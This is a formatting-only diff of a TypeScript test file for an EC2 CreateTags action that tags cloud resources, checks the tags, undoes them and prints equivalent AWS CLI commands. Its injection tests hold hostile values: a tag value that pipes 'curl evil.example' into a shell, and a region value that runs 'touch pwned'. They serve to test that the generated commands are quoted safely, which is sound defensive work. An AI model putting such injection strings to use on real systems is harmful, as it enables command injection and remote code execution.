@@ -23,12 +23,17 @@ const asType: AnyActionType = createTags;
 const asSignature: SelfSignature = createTagsSignature;
 
 const stepFor = (params: unknown, previous?: unknown, region = 'eu-west-1') =>
-  stepOf(createTags, { api: createTags.api, resource: RESOURCE, params, ...(previous === undefined ? {} : { previous }) }, region) as Step<TagParams, TagsPrevious>;
+  stepOf(createTags, { api: createTags.api, resource: RESOURCE, params, ...(previous === undefined ? {} : { previous }) }, region) as Step<
+    TagParams,
+    TagsPrevious
+  >;
 
 /** Tags per resource as DescribeTags answers them. */
 function tagsAre(byResource: Record<string, Record<string, string>>): void {
   ec2.on(DescribeTagsCommand).callsFake((input: DescribeTagsCommandInput) => ({
-    Tags: (input.Filters?.[0]?.Values ?? []).flatMap((ResourceId) => Object.entries(byResource[ResourceId] ?? {}).map(([Key, Value]) => ({ ResourceId, Key, Value }))),
+    Tags: (input.Filters?.[0]?.Values ?? []).flatMap((ResourceId) =>
+      Object.entries(byResource[ResourceId] ?? {}).map(([Key, Value]) => ({ ResourceId, Key, Value })),
+    ),
   }));
 }
 
@@ -92,8 +97,11 @@ describe('EC2.CreateTags perform and verify', () => {
     tagsAre({});
     ec2.on(CreateTagsCommand).rejects(Object.assign(new Error('does not exist'), { name: 'InvalidInstanceID.NotFound', $metadata: { httpStatusCode: 400 } }));
 
-    await expect(createTags.perform(stepFor({ Resources: [ONE], Tags: [OWNER] }), clients))
-      .rejects.toMatchObject({ kind: 'transient', code: 'InvalidInstanceID.NotFound', api: 'EC2.CreateTags' });
+    await expect(createTags.perform(stepFor({ Resources: [ONE], Tags: [OWNER] }), clients)).rejects.toMatchObject({
+      kind: 'transient',
+      code: 'InvalidInstanceID.NotFound',
+      api: 'EC2.CreateTags',
+    });
   });
 
   it('lets a volume that is gone fail a call of its own as the SDK error (the runner classifies it)', async () => {
@@ -108,32 +116,55 @@ describe('EC2.CreateTags perform and verify', () => {
   it('reads every resource back: the values for one, the keys for several, and names one that lacks a key', async () => {
     tagsAre({ [ONE]: { Owner: OWNER.Value, [AT.Key]: AT.Value }, [TWO]: { Owner: OWNER.Value } });
 
-    expect(await createTags.verify(stepFor({ Resources: [ONE], Tags: [OWNER, AT] }), clients))
-      .toEqual({ ok: true, detail: `Owner=${OWNER.Value}, ${AT.Key}=${AT.Value} read back on ${ONE}` });
-    expect(await createTags.verify(stepFor({ Resources: [ONE, TWO], Tags: [OWNER] }), clients))
-      .toEqual({ ok: true, detail: `Owner read back on each of 2 resources (${ONE}, ${TWO})` });
-    expect(await createTags.verify(stepFor({ Resources: [ONE, TWO], Tags: [OWNER, AT] }), clients))
-      .toEqual({ ok: false, detail: `${AT.Key} missing on ${TWO} after CreateTags` });
+    expect(await createTags.verify(stepFor({ Resources: [ONE], Tags: [OWNER, AT] }), clients)).toEqual({
+      ok: true,
+      detail: `Owner=${OWNER.Value}, ${AT.Key}=${AT.Value} read back on ${ONE}`,
+    });
+    expect(await createTags.verify(stepFor({ Resources: [ONE, TWO], Tags: [OWNER] }), clients)).toEqual({
+      ok: true,
+      detail: `Owner read back on each of 2 resources (${ONE}, ${TWO})`,
+    });
+    expect(await createTags.verify(stepFor({ Resources: [ONE, TWO], Tags: [OWNER, AT] }), clients)).toEqual({
+      ok: false,
+      detail: `${AT.Key} missing on ${TWO} after CreateTags`,
+    });
   });
 });
 
 describe('EC2.CreateTags reverse', () => {
-  it('deletes only the keys it added, with the values it wrote, in the action\'s Region', () => {
-    const reversal = asType.reverse(stepFor({ Resources: [ONE, TWO], Tags: [OWNER, { Key: 'CostCenter', Value: 'unknown' }, AT] }, { Tags: { CostCenter: 'cc-42' } }, 'ap-southeast-2'));
+  it("deletes only the keys it added, with the values it wrote, in the action's Region", () => {
+    const reversal = asType.reverse(
+      stepFor({ Resources: [ONE, TWO], Tags: [OWNER, { Key: 'CostCenter', Value: 'unknown' }, AT] }, { Tags: { CostCenter: 'cc-42' } }, 'ap-southeast-2'),
+    );
 
     expect(reversal).toEqual({
       kind: 'steps',
-      steps: [{
-        type: deleteTags,
-        action: { api: 'EC2.DeleteTags', resource: { ...RESOURCE, region: 'ap-southeast-2' }, params: { Resources: [ONE, TWO], Tags: [OWNER, AT] }, previous: { Tags: { Owner: OWNER.Value, [AT.Key]: AT.Value } } },
-      }],
+      steps: [
+        {
+          type: deleteTags,
+          action: {
+            api: 'EC2.DeleteTags',
+            resource: { ...RESOURCE, region: 'ap-southeast-2' },
+            params: { Resources: [ONE, TWO], Tags: [OWNER, AT] },
+            previous: { Tags: { Owner: OWNER.Value, [AT.Key]: AT.Value } },
+          },
+        },
+      ],
     });
-    expect(reversalText(reversal)).toBe(`aws ec2 delete-tags --region 'ap-southeast-2' --resources '${ONE}' '${TWO}' --tags '[{"Key":"Owner","Value":"${OWNER.Value}"},{"Key":"${AT.Key}","Value":"${AT.Value}"}]'`);
+    expect(reversalText(reversal)).toBe(
+      `aws ec2 delete-tags --region 'ap-southeast-2' --resources '${ONE}' '${TWO}' --tags '[{"Key":"Owner","Value":"${OWNER.Value}"},{"Key":"${AT.Key}","Value":"${AT.Value}"}]'`,
+    );
   });
 
   it('removes nothing blindly: no previous tags read, or every key existed before', () => {
-    expect(asType.reverse(stepFor({ Resources: [ONE], Tags: [OWNER] }))).toEqual({ kind: 'none', why: 'the record does not say which tags existed before (not read): no tag is removed blindly' });
-    expect(asType.reverse(stepFor({ Resources: [ONE], Tags: [OWNER] }, { Tags: { Owner: 'bob' } }))).toEqual({ kind: 'none', why: 'every key it wrote existed before: nothing was added, nothing to remove' });
+    expect(asType.reverse(stepFor({ Resources: [ONE], Tags: [OWNER] }))).toEqual({
+      kind: 'none',
+      why: 'the record does not say which tags existed before (not read): no tag is removed blindly',
+    });
+    expect(asType.reverse(stepFor({ Resources: [ONE], Tags: [OWNER] }, { Tags: { Owner: 'bob' } }))).toEqual({
+      kind: 'none',
+      why: 'every key it wrote existed before: nothing was added, nothing to remove',
+    });
   });
 
   it('gives the notification the same command report and undo print for a logged record', () => {
@@ -147,17 +178,30 @@ describe('EC2.CreateTags reverse', () => {
 describe('EC2.CreateTags command, signature', () => {
   it('gives a complete command, every value quoted, a hostile tag value included', () => {
     const value = "x'; curl evil.example | sh; echo '";
-    expect(createTags.command(stepFor({ Resources: [ONE], Tags: [{ Key: 'Owner', Value: value }] })))
-      .toBe(`aws ec2 create-tags --region 'eu-west-1' --resources '${ONE}' --tags '[{"Key":"Owner","Value":"x'\\''; curl evil.example | sh; echo '\\''"}]'`);
+    expect(createTags.command(stepFor({ Resources: [ONE], Tags: [{ Key: 'Owner', Value: value }] }))).toBe(
+      `aws ec2 create-tags --region 'eu-west-1' --resources '${ONE}' --tags '[{"Key":"Owner","Value":"x'\\''; curl evil.example | sh; echo '\\''"}]'`,
+    );
   });
 
   it.each(HOSTILE_IDS)('gives no command for the resource id %j even when handed a step that skipped validation', (id) => {
-    const command = createTags.command({ api: createTags.api, resource: RESOURCE, params: { Resources: [id], Tags: [OWNER] }, previous: undefined, region: 'eu-west-1' });
+    const command = createTags.command({
+      api: createTags.api,
+      resource: RESOURCE,
+      params: { Resources: [id], Tags: [OWNER] },
+      previous: undefined,
+      region: 'eu-west-1',
+    });
     expect(command).toMatch(/^no command: the (EC2 resource id in the event is not a valid EC2 resource id|event names no EC2 resource id)$/);
   });
 
   it('gives no command for a Region that is not a region code', () => {
-    const command = createTags.command({ api: createTags.api, resource: RESOURCE, params: { Resources: [ONE], Tags: [OWNER] }, previous: undefined, region: "eu-west-1';touch pwned;'" });
+    const command = createTags.command({
+      api: createTags.api,
+      resource: RESOURCE,
+      params: { Resources: [ONE], Tags: [OWNER] },
+      previous: undefined,
+      region: "eu-west-1';touch pwned;'",
+    });
     expect(command).toBe('no command: the region in the event is not a valid region');
   });
 
@@ -183,6 +227,10 @@ describe('EC2.CreateTags command, signature', () => {
   });
 
   it('is planned typed by its action type', () => {
-    expect(planOf(createTags, RESOURCE, { Resources: [ONE], Tags: [OWNER] })).toEqual({ api: 'EC2.CreateTags', resource: RESOURCE, params: { Resources: [ONE], Tags: [OWNER] } });
+    expect(planOf(createTags, RESOURCE, { Resources: [ONE], Tags: [OWNER] })).toEqual({
+      api: 'EC2.CreateTags',
+      resource: RESOURCE,
+      params: { Resources: [ONE], Tags: [OWNER] },
+    });
   });
 });
